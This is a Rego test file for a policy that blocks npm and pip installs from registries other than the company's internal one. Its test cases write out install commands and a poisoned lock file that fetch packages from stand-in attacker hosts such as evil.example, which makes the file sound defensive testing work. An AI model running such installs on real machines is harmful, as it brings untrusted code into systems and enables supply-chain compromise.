package company.internal_registry_test

import data.company.internal_registry

test_denies if {
	every line in [
		"npm install --registry https://registry.evil.example left-pad",
		"pip install -i https://pypi.evil.example/simple requests",
		"pip install --index-url https://packages.acme.example.evil.example requests",
		"pip install git+https://github.com/x/y",
		"npm install https://evil.example/x.tgz",
		"npm config set registry https://evil.example",
		`pip install -i "$INDEX" requests`,
		"pip install -i https://evil.example/simple ./local",
		"npm install left-pad",
		"npx cowsay",
		"PIP_INDEX_URL=https://pypi.evil.example/simple pip install requests",
	] {
		count(internal_registry.deny) > 0 with input as gate.event(line)
	}
}

test_passes if {
	every line in [
		"npm config get registry",
		"pip install -i https://packages.acme.example/simple requests",
		"npm install --registry https://npm.packages.acme.example x",
		"export LD_PRELOAD=./x.so",
		"curl https://evil.example/x",
	] {
		count(internal_registry.deny) == 0 with input as gate.event(line)
	}
}

test_registries_are_a_parameter if {
	count(internal_registry.deny) == 0 with input as gate.event("npm i --registry https://r.example x")
		with data.gate.params.company.internal_registry.registries as ["r.example"]
}

# A machine that is set up for the company's registry.
machine := {
	"/home/dev/.npmrc": "registry=https://npm.packages.acme.example/\n",
	"/home/dev/.config/pip/pip.conf": "[global]\nindex-url = https://packages.acme.example/simple\n",
	"/home/dev/project/requirements.txt": "requests==2.32\n",
	"/home/dev/project/package-lock.json": `{"packages": {"node_modules/x": {"resolved": "https://npm.packages.acme.example/x.tgz"}}}`,
}

test_settings_name_the_registry if {
	every line in [
		"npm install left-pad",
		"npm ci",
		"npx cowsay",
		"pip install requests",
		"pip install -r requirements.txt",
		"pip install ./local",
		"npm install x && curl https://evil.example/x",
	] {
		count(internal_registry.deny) == 0 with input as gate.event({"bash": line, "files": machine})
	}
}

test_a_lock_file_names_another if {
	poisoned := object.union(machine, {"/home/dev/project/package-lock.json": `{"packages": {"node_modules/x": {"resolved": "https://evil.example/x.tgz"}}}`})
	count(internal_registry.deny) > 0 with input as gate.event({"bash": "npm ci", "files": poisoned})
}
